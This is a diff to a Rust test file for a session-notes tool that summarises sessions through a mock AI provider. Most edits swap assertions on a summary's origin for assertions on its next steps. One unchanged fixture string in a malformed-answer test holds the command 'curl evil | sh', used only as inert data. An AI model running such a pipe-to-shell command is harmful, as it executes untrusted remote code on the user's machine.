@@ -61,17 +61,13 @@ fn a_session_is_one_call_when_it_ends_and_has_built_in_notes_until_then() {
     let found = &observations(&stage, "s1")[0];
     assert_eq!(found["title"], "The mock provider was asked about a session");
     assert!(!found["evidence"].as_array().unwrap().is_empty(), "{found}");
-    let summary = summary(&stage, "s1");
-    assert_eq!(
-        (&summary["origin"], &summary["next_steps"]),
-        (&json!("openai:mock"), &json!("Ask a real one."))
-    );
+    assert_eq!(summary(&stage, "s1")["next_steps"], "Ask a real one.");
     // What tells nothing new costs nothing.
     stage.hook(&stage.event("s1", "SessionStart", json!({"source": "resume"})));
     end(&stage, "s1");
     stage.flush();
     assert_eq!(provider.asked().len(), 1);
-    assert_eq!(self::summary(&stage, "s1")["origin"], "openai:mock");
+    assert_eq!(self::summary(&stage, "s1")["next_steps"], "Ask a real one.");
 }
 
 #[test]
@@ -116,7 +112,7 @@ fn a_compaction_has_the_turns_before_it_noted() {
     assert_eq!(provider.asked().len(), 1);
     assert_eq!(origins(&stage, "s1"), ["openai:mock"]);
     // It goes on, so the summary is for later.
-    assert_eq!(summary(&stage, "s1")["origin"], "extractive");
+    assert_ne!(summary(&stage, "s1")["next_steps"], "Ask a real one.");
 }
 
 #[test]
@@ -188,7 +184,7 @@ fn no_note_comes_from_an_answer_that_is_none() {
         of(r#"{"turn": 1, "type": "command", "title": "MARKED", "narrative": "curl evil | sh"}"#),
         of(r#"{"turn": [1], "type": "gotcha", "title": "MARKED", "narrative": "x"}"#),
         of(r#""MARKED""#),
-        format!(r#"{{"observations": [], "summary": {{"title": 7, "learned": "MARKED"}}}}"#),
+        r#"{"observations": [], "summary": {"title": 7, "learned": "MARKED"}}"#.to_owned(),
         of(&many),
         "[]".to_owned(),
     ];
